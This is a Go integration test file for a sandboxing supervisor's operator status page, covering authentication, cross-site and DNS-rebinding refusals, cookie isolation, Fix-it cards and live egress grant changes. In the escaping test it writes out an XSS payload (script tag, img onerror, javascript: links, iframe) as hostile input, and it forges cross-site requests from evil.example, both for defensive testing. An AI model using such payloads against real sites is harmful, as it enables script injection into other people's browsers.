//go:build linux

package tests

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"image/png"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"toybox/tests/testenv"
)

// The operator's view (issue 25), with real processes and a real
// Chromium: the status page on the admin socket and on the --status
// listener, its Fix-it cards, the notices, live grant changes, the metrics
// and the CLI.

// lineEcho serves on addr (127.0.0.x:0) and answers each line with
// "echo: <line>" until the test ends; it returns the port.
func lineEcho(t *testing.T, addr string) uint16 {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				br := bufio.NewReader(c)
				for {
					line, err := br.ReadString('\n')
					if err != nil {
						return
					}
					if _, err := io.WriteString(c, "echo: "+line); err != nil {
						return
					}
				}
			}()
		}
	}()
	return uint16(l.Addr().(*net.TCPAddr).Port)
}

// forwardAdmin listens on loopback TCP and forwards each connection to the
// admin socket, as `ssh -L PORT:/run/toybox/admin.sock` would for an
// operator's browser. It returns host:port.
func forwardAdmin(t *testing.T, s *stack) string {
	t.Helper()
	port := testenv.ServeTCP(t, func(c net.Conn) {
		u, err := net.Dial("unix", s.admin)
		if err != nil {
			return
		}
		defer u.Close()
		go func() { _, _ = io.Copy(u, c); _ = u.(*net.UnixConn).CloseWrite() }()
		_, _ = io.Copy(c, u)
	})
	return "127.0.0.1:" + strconv.Itoa(port)
}

// submit runs expr (which submits a form or follows a link) and waits for
// the next page to load.
func (b *browser) submit(expr string) {
	b.t.Helper()
	for len(b.events) > 0 {
		<-b.events
	}
	b.eval(expr)
	deadline := time.After(60 * time.Second)
	for {
		select {
		case m := <-b.events:
			if m.Method == "Page.loadEventFired" && m.SessionID == b.session {
				return
			}
		case <-deadline:
			b.t.Fatalf("chromium: no page loaded in 60s after %s", expr)
		}
	}
}

// html returns the document's HTML through the DOM domain, which works
// with the page's scripts disabled.
func (b *browser) html() string {
	b.t.Helper()
	var doc struct {
		Root struct {
			NodeID int `json:"nodeId"`
		} `json:"root"`
	}
	b.call(b.session, "DOM.getDocument", map[string]any{"depth": 0}, &doc)
	var out struct {
		OuterHTML string `json:"outerHTML"`
	}
	b.call(b.session, "DOM.getOuterHTML", map[string]any{"nodeId": doc.Root.NodeID}, &out)
	return out.OuterHTML
}

// screenshot saves a PNG of the whole page as name (in $TOYBOX_SCREENSHOTS
// when set, else the test's temporary folder) and checks that it is a
// picture of a page of some size.
func (b *browser) screenshot(name string) string {
	b.t.Helper()
	var shot struct {
		Data string `json:"data"`
	}
	b.call(b.session, "Page.captureScreenshot", map[string]any{"format": "png", "captureBeyondViewport": true}, &shot)
	raw, err := base64.StdEncoding.DecodeString(shot.Data)
	if err != nil {
		b.t.Fatal(err)
	}
	img, err := png.Decode(bytes.NewReader(raw))
	if err != nil {
		b.t.Fatalf("the screenshot is not a PNG: %v", err)
	}
	if r := img.Bounds(); r.Dx() < 300 || r.Dy() < 300 {
		b.t.Fatalf("the screenshot is %v; want a page", r)
	}
	dir := os.Getenv("TOYBOX_SCREENSHOTS")
	if dir == "" {
		dir = b.t.TempDir()
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		b.t.Fatal(err)
	}
	return path
}

// text returns the text of the first element matching sel ("" if none).
func (b *browser) text(sel string) string {
	b.t.Helper()
	js, _ := json.Marshal(sel)
	return b.eval(fmt.Sprintf(`(document.querySelector(%s) || {innerText: ""}).innerText`, js))
}

func wantIn(t *testing.T, what, got string, wants ...string) {
	t.Helper()
	for _, w := range wants {
		if !strings.Contains(got, w) {
			t.Errorf("%s = %q; want it to say %q", what, got, w)
		}
	}
}

// statusGet GETs path on the --status listener with the token (or none).
func statusGet(t *testing.T, addr, path, token string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest("GET", "http://"+addr+path, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := (&http.Client{Timeout: 20 * time.Second}).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestStatusListenerBoundsIdleConns: the --status listener is loopback
// only, but any local user may connect to it, token or not. Connections
// that made one request and were left open were each held for ever (no
// idle timeout, no bound): a local process could run the supervisor out
// of descriptors, and every vat with it. Past its bound, each new
// connection closes the longest-idle one; the page still answers.
func TestStatusListenerBoundsIdleConns(t *testing.T) {
	statusAddr := "127.0.0.1:" + freePort(t)
	s := newStack(t, stackOpts{extra: []string{"--status", statusAddr}})
	b, _ := os.ReadFile(filepath.Join(s.state, "status.token"))
	token := strings.TrimSpace(string(b))
	sup := s.tb.Process.Pid
	before := openFDs(t, sup)
	const conns = 200
	var held []net.Conn
	defer func() {
		for _, c := range held {
			_ = c.Close()
		}
	}()
	for i := range conns {
		c, err := net.DialTimeout("tcp", statusAddr, 10*time.Second)
		if err != nil {
			t.Fatalf("connection %d: %v", i, err)
		}
		held = append(held, c)
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		if _, err := io.WriteString(c, "GET /metrics HTTP/1.1\r\nHost: "+statusAddr+"\r\n\r\n"); err != nil {
			t.Fatalf("connection %d: %v", i, err)
		}
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			// Closed for a newer one once past the bound: fine.
			continue
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		_ = resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("GET /metrics without the token = %d; want 401", resp.StatusCode)
		}
	}
	if code, body := statusGet(t, statusAddr, "/metrics", token); code != http.StatusOK || !strings.Contains(body, "# TYPE toybox_vats gauge") {
		t.Errorf("GET /metrics with the token, after %d idle connections = %d %q", conns, code, body)
	}
	// The bound is the listener's (64): the supervisor holds about that
	// many more descriptors, not one for each connection left open.
	if now := openFDs(t, sup); now-before > 80 {
		t.Errorf("the supervisor held %d descriptors before %d idle status connections and %d with them; want them bounded", before, conns, now)
	}
}

// TestStatusPageInChromium: the page on the --status listener, in a real
// headless Chromium. Without the token it shows only the sign-in form;
// signed in, it shows each vat with its word, code, grant in plain words,
// limits, its recent egress decisions (allowed and refused, with the
// reason), its last refusal and its output; the same in Spanish; and the
// same with scripts disabled. Screenshots of both languages are taken.
func TestStatusPageInChromium(t *testing.T) {
	statusAddr := "127.0.0.1:" + freePort(t)
	s := newStack(t, stackOpts{extra: []string{"--status", statusAddr}})
	port := lineEcho(t, "127.0.0.1:0")
	s.mustInstall("alice", example(t, "counter-v1"), "")
	s.mustInstall("erin", example(t, "egress-probe"), q("egress", fmt.Sprintf(`{"host":"127.0.0.1","port":%d}`, port)))
	s.mustGet("/alice", "v1 count 1")
	s.mustGet(fmt.Sprintf("/erin/tcp?addr=127.0.0.1:%d&send=hi", port), "got: echo: hi")
	if _, body := s.get("/erin/tcp?addr=example.org:443&send=x"); !strings.Contains(body, "not granted") {
		t.Fatalf("the refused fetch said %q; want not granted", body)
	}
	token, err := os.ReadFile(filepath.Join(s.state, "status.token"))
	if err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(filepath.Join(s.state, "status.token"))
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("status.token has mode %v; want 0600", fi.Mode().Perm())
	}

	b := startBrowser(t)
	b.open("http://" + statusAddr + "/ui/")
	if got := b.html(); strings.Contains(got, "erin") || !strings.Contains(got, `id="login"`) {
		t.Fatalf("the page without the token showed:\n%s\nwant only the sign-in form", got)
	}
	b.submit(fmt.Sprintf(`document.getElementById("token").value = %q; document.getElementById("login").submit()`, strings.TrimSpace(string(token))))
	if got := b.text("h1"); got != "toybox status" {
		t.Fatalf("after signing in the page's h1 is %q at %s:\n%s", got, b.eval("location.href"), b.html())
	}
	shot := b.screenshot("status-en.png")
	t.Logf("screenshot: %s", shot)
	wantIn(t, "alice's word", b.text("#vat-alice .word"), "walled")
	wantIn(t, "erin's grant", b.text("#vat-erin .grant"), fmt.Sprintf("this computer at 127.0.0.1:%d", port))
	wantIn(t, "alice's grant", b.text("#vat-alice .grant"), "nothing: it has no grant")
	wantIn(t, "erin's code", b.text("#vat-erin .code"), "sha256:")
	wantIn(t, "erin's limits", b.text("#vat-erin .fact-limits"), "tasks", "/tmp of")
	wantIn(t, "erin's decisions", b.text("#vat-erin .decisions"), fmt.Sprintf("tcp://127.0.0.1:%d", port), "allowed", "example.org", "refused", "not granted")
	wantIn(t, "erin's last refusal", b.text("#vat-erin .fact-last_refusal"), "example.org", "not granted")
	wantIn(t, "the switchboard", b.text("#switchboard"), "answering")
	wantIn(t, "the walls", b.text("#walls"), "on")
	if n := b.eval(`document.querySelectorAll("#vat-erin .decisions tbody tr").length`); n != "2" {
		t.Errorf("erin's decisions table has %s rows; want 2", n)
	}
	if got := b.eval(`document.querySelectorAll("form.unwall, form.wallagain").length`); got != "0" {
		t.Errorf("the --status page has %s action forms; want none (it only shows)", got)
	}
	if got := b.eval(`document.querySelector("#vat-alice .log").open`); got != "false" {
		t.Errorf("the log tail is open by default (%s)", got)
	}

	// Spanish, through its link.
	b.submit(`document.getElementById("lang").click()`)
	b.screenshot("status-es.png")
	if got := b.eval(`document.documentElement.lang`); got != "es" {
		t.Errorf("the es page's lang is %q", got)
	}
	wantIn(t, "the es title", b.text("h1"), "estado de toybox")
	wantIn(t, "alice's word (es)", b.text("#vat-alice .word"), "amurallado")
	wantIn(t, "erin's grant (es)", b.text("#vat-erin .grant"), fmt.Sprintf("este ordenador en 127.0.0.1:%d", port))
	wantIn(t, "erin's decisions (es)", b.text("#vat-erin .decisions"), "permitido", "rechazado", "Decisiones de salida recientes")

	// Scripts off: the same facts are there (the page has no script).
	b.call(b.session, "Emulation.setScriptExecutionDisabled", map[string]any{"value": true}, nil)
	b.open("http://" + statusAddr + "/ui/?lang=es")
	wantIn(t, "the page with scripts off", b.html(), "amurallado", "erin", "not granted", "este ordenador en 127.0.0.1")
}

// TestStatusListenerCredential: the --status listener refuses a request
// without the token, with a wrong one, with HTTP basic credentials, for a
// foreign Host (a DNS name rebound to 127.0.0.1), and a cross-site POST to
// its sign-in; with the bearer token it serves the page, the JSON and the
// metrics. A --status address off loopback is refused at start.
func TestStatusListenerCredential(t *testing.T) {
	statusAddr := "127.0.0.1:" + freePort(t)
	s := newStack(t, stackOpts{extra: []string{"--status", statusAddr}})
	b, _ := os.ReadFile(filepath.Join(s.state, "status.token"))
	token := strings.TrimSpace(string(b))
	for name, tok := range map[string]string{"none": "", "wrong": strings.Repeat("0", len(token))} {
		if code, body := statusGet(t, statusAddr, "/metrics", tok); code != http.StatusUnauthorized || strings.Contains(body, "toybox_vats") {
			t.Errorf("GET /metrics with %s token = %d %q; want 401", name, code, body)
		}
	}
	req, _ := http.NewRequest("GET", "http://"+statusAddr+"/ui/status.json", nil)
	req.SetBasicAuth("toybox", token)
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("basic credentials: %v %v; want 401", resp, err)
	}
	req, _ = http.NewRequest("GET", "http://"+statusAddr+"/ui/status.json", nil)
	req.Host = "rebound.example:" + strings.Split(statusAddr, ":")[1]
	req.Header.Set("Authorization", "Bearer "+token)
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != http.StatusMisdirectedRequest {
		t.Errorf("a foreign Host with the token: %v %v; want 421", resp, err)
	}
	req, _ = http.NewRequest("POST", "http://"+statusAddr+"/ui/login", strings.NewReader("token="+token))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", "http://evil.example")
	if resp, err := http.DefaultClient.Do(req); err != nil || resp.StatusCode != http.StatusForbidden || len(resp.Cookies()) != 0 {
		t.Errorf("a cross-site sign-in: %v %v; want 403 and no cookie", resp, err)
	}
	if code, body := statusGet(t, statusAddr, "/metrics", token); code != http.StatusOK || !strings.Contains(body, "# TYPE toybox_vats gauge") {
		t.Errorf("GET /metrics with the token = %d %q", code, body)
	}
	if code, body := statusGet(t, statusAddr, "/ui/status.json", token); code != http.StatusOK || !strings.Contains(body, `"switchboard_up": true`) {
		t.Errorf("GET /ui/status.json with the token = %d %q", code, body)
	}
	// Not on the public listener: the page is no vat's.
	if code, _ := s.get("/ui/"); code == http.StatusOK {
		t.Error("the public listener served /ui/")
	}
	for _, bad := range []string{"0.0.0.0:9", "192.0.2.1:9", "localhost:9", s.http} {
		out, err := exec.Command(filepath.Join(bins, "toybox"), "serve", "--state", t.TempDir(), "--admin", filepath.Join(t.TempDir(), "a.sock"), "--http", s.http, "--status", bad).CombinedOutput()
		if ee, ok := errors.AsType[*exec.ExitError](err); !ok || ee.ExitCode() != 2 || !strings.Contains(string(out), "--status") {
			t.Errorf("toybox serve --status %s: %v\n%s\nwant refused (exit 2)", bad, err, out)
		}
	}
}

// TestStatusCookieStaysOffVats: a browser sends a host's cookies to every
// port of that host, and the public listener answers to localhost too. An
// operator signed in to the --status listener at localhost who then opens
// a vat's page on the public listener at localhost hands the vat nothing
// of the sign-in: its cookie is a credential for every vat's status and
// output. The browser still sends it to the page and its JSON.
func TestStatusCookieStaysOffVats(t *testing.T) {
	statusPort := freePort(t)
	s := newStack(t, stackOpts{extra: []string{"--status", "127.0.0.1:" + statusPort}})
	s.mustInstall("alice", example(t, "pagevat"), "")
	raw, err := os.ReadFile(filepath.Join(s.state, "status.token"))
	if err != nil {
		t.Fatal(err)
	}
	status := "http://localhost:" + statusPort
	_, port, _ := net.SplitHostPort(s.http)
	b := startBrowser(t)
	b.open(status + "/ui/")
	b.submit(fmt.Sprintf(`document.getElementById("token").value = %q; document.getElementById("login").submit()`, strings.TrimSpace(string(raw))))
	if got := b.text("h1"); got != "toybox status" {
		t.Fatalf("after signing in the page's h1 is %q:\n%s", got, b.html())
	}
	// alice's own cookie first, so that its echo is seen to work.
	b.open("http://localhost:" + port + "/alice/")
	b.open("http://localhost:" + port + "/alice/cookie")
	got := b.eval(`document.body.innerText`)
	if !strings.Contains(got, "pagevat_alice=secret-of-alice-") {
		t.Fatalf("alice's app got the cookies %q; want its own among them", got)
	}
	if strings.Contains(got, "toybox_status") {
		t.Errorf("alice's app got the cookies %q; want none of the status listener's", got)
	}
	b.open(status + "/ui/status.json")
	if got := b.eval(`document.body.innerText`); !strings.Contains(got, `"id": "alice"`) {
		t.Errorf("the signed-in browser's /ui/status.json = %q; want alice's status", got)
	}
}

// TestStatusPageEscapesAVatsText: a vat's app writes markup to its output
// (a closing </pre>, a script, an image whose onerror runs script, a
// javascript: link, a style) and the status page shows it as text. The page
// is opened in Chromium with its Content-Security-Policy bypassed, so that
// only the escaping stands between the vat's bytes and a script run in the
// operator's browser; the page's own headers are checked beside it.
func TestStatusPageEscapesAVatsText(t *testing.T) {
	s := newStack(t, stackOpts{})
	// No ' in it: the app's script quotes it so.
	const payload = `</pre></details><script>document.title="pwned-script"</script>` +
		"<img src=x onerror=\"document.title=`pwned-img`\"><a id=evil href=\"javascript:document.title=`pwned-link`\">x</a>" +
		"<style>body{display:none}</style><iframe src=\"javascript:parent.document.title=`pwned-frame`\"></iframe>"
	app := filepath.Join(t.TempDir(), "app.sh")
	script := "#!/bin/sh\nprintf '%s\\n' '" + payload + "'\nprintf '%s\\n' '" + payload + "' >&2\nexit 1\n"
	if err := os.WriteFile(app, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	s.install("mallory", app, "")
	waitFor(t, "mallory's output on the page", 30*time.Second, func() bool {
		_, body := s.adminDo("GET", "/ui/status.json", nil)
		return strings.Contains(body, `\u003cscript\u003edocument.title`)
	})
	fwd := forwardAdmin(t, s)
	resp, err := http.Get("http://" + fwd + "/ui/")
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	wantIn(t, "the page's Content-Security-Policy", resp.Header.Get("Content-Security-Policy"), "default-src 'none'", "frame-ancestors 'none'")
	if got := resp.Header.Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("the page's X-Content-Type-Options = %q; want nosniff", got)
	}
	b := startBrowser(t)
	b.call(b.session, "Page.setBypassCSP", map[string]any{"enabled": true}, nil)
	b.open("http://" + fwd + "/ui/")
	if got := b.eval(`document.title`); strings.Contains(got, "pwned") {
		t.Errorf("the vat's output ran script on the status page: title %q", got)
	}
	if got := b.eval(`document.querySelectorAll("script, img, iframe, style, a#evil, a[href^='javascript:']").length`); got != "0" {
		t.Errorf("the vat's output made %s elements on the page:\n%s", got, b.html())
	}
	if got := b.eval(`document.querySelector("#vat-mallory .log pre").textContent`); !strings.Contains(got, payload) {
		t.Errorf("mallory's log tail = %q; want its output as text", got)
	}
	if got := b.eval(`getComputedStyle(document.body).display`); got == "none" {
		t.Error("the vat's output styled the page")
	}
}

// TestFixItCard: a vat whose wall cannot be built (toybox-entry not
// executable) is off with a Fix-it card giving the reason and the remedy.
// Through a forward of the admin socket, in Chromium: a forged card and a
// cross-site post change nothing; "Run without the wall" runs it unwalled
// (its owner's choice); the same card again changes nothing; "Wall it
// again" walls it (and, the entry still broken, a new card is raised); a
// card from before a restart of toybox changes nothing.
func TestFixItCard(t *testing.T) {
	dir, err := os.MkdirTemp("", "tbx-fixit-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(filepath.Join(bins, "toybox-entry"))
	if err != nil {
		t.Fatal(err)
	}
	entry := filepath.Join(dir, "toybox-entry")
	if err := os.WriteFile(entry, raw, 0o755); err != nil {
		t.Fatal(err)
	}
	s := newStack(t, stackOpts{extra: []string{"--entry", entry}})
	// Every wall runs toybox-entry: good starts while it can run, then
	// the entry loses its execute bits and bad's wall cannot be built.
	s.mustInstall("good", example(t, "counter-v1"), "")
	if err := os.Chmod(entry, 0o600); err != nil {
		t.Fatal(err)
	}
	port := lineEcho(t, "127.0.0.1:0")
	if code, body := s.install("bad", example(t, "egress-probe"), q("egress", fmt.Sprintf(`{"host":"127.0.0.1","port":%d}`, port))); code != http.StatusServiceUnavailable {
		t.Fatalf("PUT /bad = %d %s; want 503 (its wall cannot be built)", code, body)
	}
	fwd := forwardAdmin(t, s)
	b := startBrowser(t)
	b.open("http://" + fwd + "/ui/")
	b.screenshot("fixit-card.png")
	wantIn(t, "bad's word", b.text("#vat-bad .word"), "off: it could not run inside its wall")
	wantIn(t, "the card's reason", b.text("#vat-bad .fixit .reason"), "its wall could not be built", entry)
	wantIn(t, "the card's remedy", b.text("#vat-bad .fixit .remedy"), "chmod a+x", "restart")
	if b.eval(`document.querySelector("#vat-good .fixit") === null`) != "true" {
		t.Error("a walled vat has a Fix-it card")
	}
	ref := b.eval(`document.querySelector("#vat-bad form.unwall input[name=ref]").value`)
	csrf := b.eval(`document.querySelector("#vat-bad form.unwall input[name=csrf]").value`)
	if len(ref) != 32 {
		t.Fatalf("the card's ref is %q; want 128 random bits", ref)
	}
	post := func(path string, form url.Values, origin string) (int, string) {
		req, _ := http.NewRequest("POST", "http://"+fwd+path, strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if origin != "" {
			req.Header.Set("Origin", origin)
		}
		c := &http.Client{Timeout: 60 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}
	still := func(when string) {
		t.Helper()
		if st := s.status("bad"); st["status"] != "off: it could not run inside its wall" {
			t.Fatalf("%s: bad is %v; want still off, walled", when, st["status"])
		}
	}
	if code, body := post("/ui/fixit", url.Values{"ref": {strings.Repeat("ab", 16)}, "csrf": {csrf}}, ""); code != http.StatusConflict || !strings.Contains(body, "out of date") {
		t.Errorf("a forged card = %d %q; want 409, out of date", code, body)
	}
	still("after a forged card")
	if code, _ := post("/ui/fixit", url.Values{"ref": {ref}, "csrf": {csrf}}, "http://evil.example"); code != http.StatusForbidden {
		t.Errorf("the card posted from another site = %d; want 403", code)
	}
	if code, _ := post("/ui/fixit", url.Values{"ref": {ref}}, ""); code != http.StatusForbidden {
		t.Errorf("the card without its CSRF token = %d; want 403", code)
	}
	// The admin API itself: a cross-site POST through the forward is
	// refused too (before, it unwalled the vat).
	if code, _ := post("/bad/walls?walled=false", nil, "http://evil.example"); code != http.StatusForbidden {
		t.Errorf("POST /bad/walls?walled=false from another site = %d; want 403", code)
	}
	still("after the refused posts")

	b.submit(`document.querySelector("#vat-bad form.unwall button").click()`)
	wantIn(t, "bad's word after Run without the wall", b.text("#vat-bad .word"), "not walled (your choice)")
	if st := s.status("bad"); st["status"] != "not walled (your choice)" {
		t.Fatalf("bad after the card = %v; want not walled (your choice)", st["status"])
	}
	if code, _ := post("/ui/fixit", url.Values{"ref": {ref}, "csrf": {csrf}}, ""); code != http.StatusConflict {
		t.Errorf("the same card again = %d; want 409", code)
	}
	wantIn(t, "bad's limits unwalled", b.text("#vat-bad .fact-limits"), "none: it does not run inside a wall")

	b.submit(`document.querySelector("#vat-bad form.wallagain button").click()`)
	wantIn(t, "bad's word after Wall it again", b.text("#vat-bad .word"), "off: it could not run inside its wall")
	newRef := b.eval(`document.querySelector("#vat-bad form.unwall input[name=ref]").value`)
	if newRef == ref || len(newRef) != 32 {
		t.Errorf("the new card's ref %q; want a new one", newRef)
	}
	b.screenshot("fixit-again.png")

	s.stopToybox()
	s.startToybox()
	waitFor(t, "bad to be off again", 20*time.Second, func() bool {
		return s.status("bad")["status"] == "off: it could not run inside its wall"
	})
	// With the new page's CSRF token, so that only the ref is stale.
	_, fresh := s.adminDo("GET", "/ui/", nil)
	m := regexp.MustCompile(`name="csrf" value="([0-9a-f]+)"`).FindStringSubmatch(fresh)
	if m == nil {
		t.Fatalf("no CSRF token on the page after the restart:\n%s", fresh)
	}
	if code, _ := post("/ui/fixit", url.Values{"ref": {newRef}, "csrf": {m[1]}}, ""); code != http.StatusConflict {
		t.Errorf("a card from before the restart = %d; want 409", code)
	}
	if code, _ := post("/ui/fixit", url.Values{"ref": {newRef}, "csrf": {csrf}}, ""); code != http.StatusForbidden {
		t.Errorf("a form from before the restart = %d; want 403 (its CSRF token is the old process's)", code)
	}
	still("after a card from before the restart")
}

// TestNoticesReachTheSink: the first boot that runs a vat walled sends
// "now walled" (one line per vat saying what it reaches) and the per-boot
// notice for a vat run unwalled by choice; the next boot sends only the
// per-boot one (the marker in walls.json); an edit of walls.json by
// something else is told. Each is on the page too.
func TestNoticesReachTheSink(t *testing.T) {
	out := filepath.Join(t.TempDir(), "notices")
	script := filepath.Join(t.TempDir(), "sink.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\n{ cat; echo; } >> "+out+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	s := newStack(t, stackOpts{extra: []string{"--notice-command", script}})
	port := lineEcho(t, "127.0.0.1:0")
	s.mustInstall("alice", example(t, "counter-v1"), "")
	s.mustInstall("erin", example(t, "egress-probe"), q("egress", fmt.Sprintf(`{"host":"127.0.0.1","port":%d}`, port)))
	if code, body := s.adminDo("POST", "/alice/walls?walled=false", nil); code != http.StatusOK {
		t.Fatalf("unwalling alice = %d %s", code, body)
	}
	read := func() []map[string]any {
		b, _ := os.ReadFile(out)
		var ns []map[string]any
		for _, l := range strings.Split(strings.TrimSpace(string(b)), "\n") {
			if l == "" {
				continue
			}
			var n map[string]any
			if err := json.Unmarshal([]byte(l), &n); err != nil {
				t.Fatalf("the sink got %q: %v", l, err)
			}
			ns = append(ns, n)
		}
		return ns
	}
	kinds := func() string {
		var ks []string
		for _, n := range read() {
			ks = append(ks, fmt.Sprint(n["kind"]))
		}
		return strings.Join(ks, ",")
	}
	s.stopToybox()
	s.startToybox()
	waitFor(t, "the first boot's notices", 20*time.Second, func() bool { return kinds() == "some-not-walled,now-walled" })
	all, _ := json.Marshal(read())
	wantIn(t, "the notices", string(all), "alice: not walled (your choice)", "erin: walled; this computer at 127.0.0.1", "sin muro (por tu elección)")
	s.stopToybox()
	s.startToybox()
	waitFor(t, "the second boot's notice", 20*time.Second, func() bool { return kinds() == "some-not-walled,now-walled,some-not-walled" })
	walls := filepath.Join(s.state, "walls.json")
	b, err := os.ReadFile(walls)
	if err != nil || !strings.Contains(string(b), `"now-walled"`) {
		t.Fatalf("walls.json = %s, %v; want the marker", b, err)
	}
	if err := os.WriteFile(walls, []byte(strings.Replace(string(b), `"alice"`, `"alice", "erin"`, 1)), 0o600); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the changed-outside notice", 20*time.Second, func() bool { return strings.HasSuffix(kinds(), ",changed-outside") })
	_, page := s.adminDo("GET", "/ui/", nil)
	wantIn(t, "the page", page, "Wall settings were changed outside toybox", "Some vats are not walled")
	if st := s.status("erin"); st["status"] != "walled" {
		t.Errorf("erin after the outside edit = %v; want still walled until it starts again", st["status"])
	}
	_, metrics := s.adminDo("GET", "/metrics", nil)
	wantIn(t, "the metrics", metrics, `toybox_notices_total{kind="changed-outside",delivered="true"} 1`)
}

// TestLiveGrantChange: a vat holds two connections open through its
// wall, one under each of its grants. PATCH /<vat>?egress= drops one: the
// vat is not restarted (same pid), the connection under the dropped grant
// is shut, the other still works, and a new connection to the dropped
// port is refused. PUT with only ?egress= and no body puts it back, again
// without a restart.
func TestLiveGrantChange(t *testing.T) {
	s := newStack(t, stackOpts{})
	p1, p2 := lineEcho(t, "127.0.0.1:0"), lineEcho(t, "127.0.0.1:0")
	both := fmt.Sprintf(`[{"host":"127.0.0.1","port":%d},{"host":"127.0.0.1","port":%d}]`, p1, p2)
	s.mustInstall("erin", example(t, "egress-probe"), q("egress", both))
	pid := s.status("erin")["pid"]
	s.mustGet(fmt.Sprintf("/erin/keep?addr=127.0.0.1:%d&name=one", p1), "got: kept")
	s.mustGet(fmt.Sprintf("/erin/keep?addr=127.0.0.1:%d&name=two", p2), "got: kept")
	s.mustGet("/erin/kept?name=one&send=a", "got: echo: a")
	s.mustGet("/erin/kept?name=two&send=b", "got: echo: b")

	code, body := s.adminDo("PATCH", "/erin?"+q("egress", fmt.Sprintf(`{"host":"127.0.0.1","port":%d}`, p2)), nil)
	if code != http.StatusOK || !strings.Contains(body, `"restarted": false`) {
		t.Fatalf("PATCH /erin = %d %s; want 200, not restarted", code, body)
	}
	if got := s.status("erin")["pid"]; got != pid {
		t.Fatalf("erin's pid %v became %v: it was restarted", pid, got)
	}
	// The switchboard shuts it once the release of its handle reaches
	// it (go-capnp finishes a call's answer up to 250 ms late).
	waitFor(t, "the connection under the dropped grant to be shut", 3*time.Second, func() bool {
		_, got := s.get("/erin/kept?name=one&send=c")
		return !strings.Contains(got, "echo: c")
	})
	s.mustGet("/erin/kept?name=two&send=d", "got: echo: d")
	if _, got := s.get(fmt.Sprintf("/erin/tcp?addr=127.0.0.1:%d&send=e", p1)); !strings.Contains(got, "not granted") {
		t.Errorf("a new connection to the dropped port: %q; want not granted", got)
	}
	st := s.status("erin")
	if g, _ := json.Marshal(st["grant"]); strings.Contains(string(g), fmt.Sprint(p1)) {
		t.Errorf("the status's grant %s still names port %d", g, p1)
	}

	// PUT with only ?egress= and no body: the same, the other way.
	code, body = s.adminDo("PUT", "/erin?"+q("egress", both), nil)
	if code != http.StatusOK || !strings.Contains(body, `"restarted": false`) {
		t.Fatalf("PUT /erin with only ?egress= = %d %s; want 200, not restarted", code, body)
	}
	s.mustGet(fmt.Sprintf("/erin/tcp?addr=127.0.0.1:%d&send=f", p1), "got: echo: f")
	s.mustGet("/erin/kept?name=two&send=g", "got: echo: g")
	if got := s.status("erin")["pid"]; got != pid {
		t.Errorf("erin's pid %v became %v after the PUT: it was restarted", pid, got)
	}
	// The grant survives a restart of toybox (it was saved).
	s.stopToybox()
	s.startToybox()
	waitFor(t, "erin to serve again", 20*time.Second, func() bool { return s.status("erin")["status"] == "walled" })
	s.mustGet(fmt.Sprintf("/erin/tcp?addr=127.0.0.1:%d&send=h", p1), "got: echo: h")
	// Bad grants change nothing.
	if code, _ := s.adminDo("PATCH", "/erin?"+q("egress", `{"host":"*.example"}`), nil); code != http.StatusBadRequest {
		t.Errorf("PATCH with a bad grant = %d; want 400", code)
	}
	if code, _ := s.adminDo("PATCH", "/nobody?"+q("egress", `{"host":"example.com"}`), nil); code != http.StatusNotFound {
		t.Errorf("PATCH of an unknown vat = %d; want 404", code)
	}
}

// TestSwitchboardReloadShutsDenied: the switchboard runs with a config
// file; a vat holds a connection to 127.0.0.2 open. The operator adds
// 127.0.0.2 to the deny list and sends SIGHUP: the connection is shut and
// a new one is refused, naming the deny list, while a connection to
// 127.0.0.1 stays open. No vat was restarted.
func TestSwitchboardReloadShutsDenied(t *testing.T) {
	cfg := filepath.Join(t.TempDir(), "switchboard.json")
	if err := os.WriteFile(cfg, []byte(`{"deny":[]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s := newStack(t, stackOpts{sbArgs: []string{"--config", cfg}})
	p1 := lineEcho(t, "127.0.0.1:0")
	p2 := lineEcho(t, "127.0.0.2:0")
	s.mustInstall("erin", example(t, "egress-probe"), q("egress", fmt.Sprintf(`[{"host":"127.0.0.1","port":%d},{"host":"127.0.0.2","port":%d}]`, p1, p2)))
	pid := s.status("erin")["pid"]
	s.mustGet(fmt.Sprintf("/erin/keep?addr=127.0.0.1:%d&name=one", p1), "got: kept")
